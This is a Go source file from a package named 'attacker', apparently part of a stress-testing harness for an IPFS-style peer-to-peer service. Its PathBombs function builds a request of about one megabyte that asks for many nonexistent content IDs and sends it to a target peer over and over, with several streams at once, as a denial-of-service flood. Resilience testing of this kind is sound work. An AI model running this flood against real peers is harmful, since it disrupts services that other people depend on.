package attacker

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/ipfs/go-cid"
)

// PathBombs asks for paths with requests as long as they may be, of names that nobody has.
func PathBombs(t Target, atOnce int) Attack {
	return func(ctx context.Context, p *Peer, tally *Tally) {
		hash, err := randomHash()
		if err != nil {
			return
		}
		name := fmt.Sprintf(`{"/":"%s"},`, cid.NewCidV1(cid.DagProtobuf, hash))
		names := strings.Repeat(name, (1<<20-100)/len(name))
		bomb := fmt.Appendf(nil, `{"op":"deltas","page":4096,"want":[%s]}`, strings.TrimSuffix(names, ","))
		again(ctx, atOnce, tally, func(ctx context.Context) error {
			s, err := p.stream(ctx, t, pathsProtocol)
			if err != nil {
				return err
			}
			defer func() { _ = s.Reset() }()
			defer context.AfterFunc(ctx, func() { _ = s.Reset() })()
			_ = s.SetDeadline(time.Now().Add(patience))
			if err := WriteFrame(s, bomb); err != nil {
				return err
			}
			if _, err := ReadFrame(bufio.NewReader(s)); err != nil && !errors.Is(err, io.EOF) {
				return err
			}
			return nil
		})
	}
}
